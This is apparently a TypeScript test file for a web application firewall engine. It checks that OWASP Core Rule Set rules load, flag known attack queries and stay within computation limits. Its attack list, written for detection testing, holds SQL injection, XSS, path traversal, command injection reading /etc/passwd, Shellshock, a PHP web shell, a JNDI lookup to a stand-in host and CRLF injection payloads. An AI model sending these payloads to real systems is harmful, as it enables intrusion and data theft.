// SPDX-License-Identifier: Apache-2.0
// The OWASP Core Rule Set is brought by whoever uses it: these tests run where a copy of it lies.

import assert from 'node:assert/strict'
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { readContext } from '../context.ts'
import { decodeRequest } from '../decode/request.ts'
import { createInjection } from '../injection.ts'
import { createChains, formOf } from './chains.ts'
import { newItem } from './collections.ts'
import { seclangLimits } from './limits.ts'
import { loadSecRules } from './load.ts'
import { linksOf, type SecRule } from './rule.ts'

const coreRules = join(import.meta.dirname, '../../../../../../shared/rules-samples/crs4')

const sets = [
  {
    name: 'CRS 4',
    rules: join(coreRules, 'rules'),
    setup: join(coreRules, 'crs-setup.conf.example'),
    level: 'blocking_paranoia_level',
  },
  {
    name: 'CRS 3.3',
    rules: '/usr/share/modsecurity-crs/rules',
    setup: '/etc/modsecurity/crs/crs-setup.conf',
    level: 'paranoia_level',
  },
]

const read = (path: string) => readFileSync(path, 'latin1')
const load = ({ rules, setup, level }: (typeof sets)[number], paranoia: number) =>
  loadSecRules(
    [
      { path: 'crs-setup.conf', text: read(setup) },
      ...readdirSync(rules)
        .filter((name) => name.endsWith('.conf'))
        .sort()
        .map((path) => ({ path, text: read(join(rules, path)) })),
    ],
    {
      files: (name) => (existsSync(join(rules, name)) ? read(join(rules, name)) : undefined),
      variables: { [level]: String(paranoia) },
    },
  )

const whereItLies = ({ rules, setup }: (typeof sets)[number]) =>
  existsSync(rules) && existsSync(setup) ? {} : { skip: `${rules} is not there` }

/** Written from what the rules say of themselves; the first id is of 4, the second of 3.3 where that differs. */
const attacks: readonly (readonly [query: string, id: number, in3?: number])[] = [
  ["q=1' OR '1'='1' -- ", 942100],
  ['q=1 UNION SELECT password FROM users', 942190, 942100],
  ['q=1;DROP TABLE users; --', 942100],
  ['q=sleep(5)', 942160],
  ['q=<script>alert(1)</script>', 941110],
  ['q=<img src=x onerror=alert(1)>', 941160],
  ['q=javascript:alert(document.cookie)', 941170, 941180],
  ['q=../../../../etc/passwd', 930120],
  ['q=;cat /etc/passwd', 932160],
  ['q=() { :; }; /bin/bash', 932171],
  ['q=http://10.0.0.1/shell.php?', 931100],
  ['q=<?php system($_GET[1]); ?>', 933100],
  ['q=$\u007bjndi:ldap://evil/a}', 944150, 932130],
  ['q=java.lang.Runtime', 944130, 944130],
  ['q=a%0d%0aSet-Cookie: x=1', 921160],
]

for (const set of sets) {
  const options = whereItLies(set)

  test(`DET-1 ${set.name}: every rule over requests loads, but those that ask other services`, options, () => {
    const { problems, rules } = load(set, 2)
    assert(rules.length > 400, `${rules.length} rules`)
    assert.deepEqual(
      problems.map(({ reason }) => reason).filter((reason) => !/@geoLookup|@rbl/.test(reason)),
      [],
    )
  })

  test(`DET-1 ${set.name}: attacks are found, ordinary requests score nothing`, options, () => {
    const { engine } = load(set, 1)
    const injection = createInjection()
    const judge = (query: string) => {
      const headers = [
        ['Host', 'shop.example.com'],
        [
          'User-Agent',
          'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
        ],
        ['Accept', '*/*'],
      ]
      const encoded = query.replace(/[^\w=&%]/g, (char) => `%${char.charCodeAt(0).toString(16).padStart(2, '0')}`)
      const context = readContext({ method: 'GET', path: '/search', query: encoded, headers, address: '192.0.2.1' })
      return engine.evaluate(context, decodeRequest(context), injection)
    }
    const missed: string[] = []
    for (const [query, id, in3] of attacks) {
      const { matches } = judge(query)
      const wanted = set.name === 'CRS 4' ? id : (in3 ?? id)
      if (!matches.some((match) => match.id === wanted))
        missed.push(`${query}: ${matches.map((match) => match.id)}, not ${wanted}`)
    }
    for (const query of [
      'q=running+shoes&page=2',
      'q=caf%C3%A9+au+lait',
      'id=8f14e45f-ceea-467f-a9d3-b5c1e2f0a111&sort=-price',
    ])
      assert.deepEqual(judge(query).matches, [], query)
  })
}

const basic = { name: 'our basic rules', path: join(import.meta.dirname, '../../../rules/basic.conf') }
for (const { name, rules, options } of [
  {
    name: basic.name,
    rules: () => loadSecRules([{ path: basic.path, text: read(basic.path) }], { files: () => undefined }),
  },
  ...sets.map((set) => ({ name: set.name, rules: () => load(set, 4), options: whereItLies(set) })),
])
  test(
    `DET-1 ${name}: no rule, whatever its operator and transformations, takes more than it may for its worst texts`,
    options ?? {},
    () => {
      const chains = createChains()
      const injection = createInjection()
      const common = commonUnits.map((unit) => newItem('ARGS', 'x', filled(unit)))
      const tried = new Map<string, number>()
      for (const first of rules().rules)
        for (const link of linksOf(first)) {
          tried.set(link.operatorName, (tried.get(link.operatorName) ?? 0) + 1)
          const chain = chains.of(link)
          const own = ownUnits(link).flatMap((unit) =>
            [1, 64].map((kilobytes) => newItem('ARGS', 'x', filled(unit, kilobytes))),
          )
          for (const item of [...common, ...own]) {
            const told = `${first.id} @${link.operatorName} ${link.names.join()}: ${JSON.stringify(item.text.slice(0, 20))}`
            const spent = stepsOf((meter) => formOf(item, chain, meter))
            assert(spent < seclangLimits.stepsMax, `${told}: ${spent} steps to transform`)
            const form = formOf(item, chain, { steps: 0 })
            assert(form.length <= item.text.length, `${told}: ${form.length} of ${item.text.length} bytes`)
            const asked = stepsOf((meter) => link.operator.matches(form, { lookup: () => '', meter, injection }))
            assert(asked < seclangLimits.stepsMax / 2, `${told}: ${asked} steps to match`)
          }
        }
      const missed = [...tried.keys()].filter((operator) => !Object.hasOwn(worstUnits, operator))
      assert.deepEqual(missed, [], 'each operator has texts that are worst for it')
      assert(tried.has('rx') && tried.size > (name === basic.name ? 1 : 10), [...tried].join('; '))
    },
  )

/**
 * What it costs of all that a request may. Operators without a meter read a text once: one that did not would take hours for all of these,
 * and be ended with its tier.
 */
function stepsOf(act: (meter: { steps: number; missed: number }) => unknown): number {
  const meter = { steps: seclangLimits.stepsMax, missed: 0 }
  act(meter)
  return seclangLimits.stepsMax - meter.steps
}

/** The same over and over, with what it never ends with behind it. As large as what is looked at of one value. */
const filled = (unit: string, kilobytes = 64) => `${unit.repeat(Math.ceil((kilobytes * 1_024) / unit.length))}\x01`

/** Of any rule: what expressions, libinjection and transformations begin something at, and never end. */
const commonUnits = [
  ...[
    '\n',
    ' ',
    "'",
    '"',
    '(',
    '<',
    '1',
    'a',
    'A',
    '\0',
    '\xa0',
    '\xff',
    "' or 1=",
    '<a b=',
    '--',
    '#',
    ';',
    '=',
    '+',
    '^"',
  ],
  ...[
    '/*',
    '*/',
    '/**',
    '<!--',
    '-->',
    '../',
    './',
    '//',
    '\\',
    '\\x4',
    '\\u00',
    '\\41 ',
    '%',
    '%4',
    '%u00',
    '%25',
    '&',
    '&#',
    '&#x4',
    '&lt',
  ],
  ...['0x', '0x4', '41', 'QUJD', '\xe2\x82', '\xe2\x82\xac', '\xc2', '1.', '::'],
]

type Units = (source: string, link: SecRule) => readonly string[]
/** All but its end, so that a search for it begins anew at each. */
const almost: Units = (source) => (source.length > 1 ? [source.slice(0, -1), `${source.slice(0, -1)} `] : [])
const almostPhrases: Units = (_, { operator }) => {
  const atoms = (operator.required?.atoms ?? []).toSorted((one, other) => other.length - one.length)
  return atoms.slice(0, 2).flatMap((atom) => almost(atom, undefined as never))
}
const nothing: Units = () => []

/** By operator, beside what is worst for any: what looks most like what the rule is about, and is not. */
const worstUnits: Readonly<Record<string, Units>> = {
  rx: (source) => {
    const letters = [...new Set(source.replace(/\\[xnrtsdwSDWbB][0-9a-f]{0,2}|[()[\]{}|*+?^$\\]/g, ''))]
      .slice(0, 12)
      .join('')
    const plain = source.replace(/\(\?[a-z]*:?|[\\()[\]{}|*+?^$]/g, '').slice(0, 40)
    return [`${letters}\n`, ...(plain === '' ? [] : [plain])]
  },
  ...{ pm: almostPhrases, pmf: almostPhrases, pmfromfile: almostPhrases },
  ...{ contains: almost, containsword: almost, strmatch: almost, beginswith: almost, endswith: almost, streq: almost },
  within: (source) => [source.slice(0, 40)].filter((text) => text !== ''),
  ...{ eq: nothing, ge: nothing, gt: nothing, le: nothing, lt: nothing, unconditionalmatch: nothing, nomatch: nothing },
  detectsqli: () => ["1' union select 1,", "'/*!", '1e', '@@', "q'(", '--\n'],
  detectxss: () => ['<a ', '<!', '<x y=', 'x="', '<svg/'],
  ...{ validatebyterange: nothing, validateurlencoding: () => ['%41', '%4g'] },
  validateutf8encoding: () => ['\xf0\x9f\x98\x80', '\xf0\x9f\x98'],
  ...{ ipmatch: () => ['192.0.2.', '2001:db8:'], ipmatchf: nothing, ipmatchfromfile: nothing },
}
const ownUnits = (link: SecRule) => (worstUnits[link.operatorName] ?? nothing)(link.operatorSource, link)
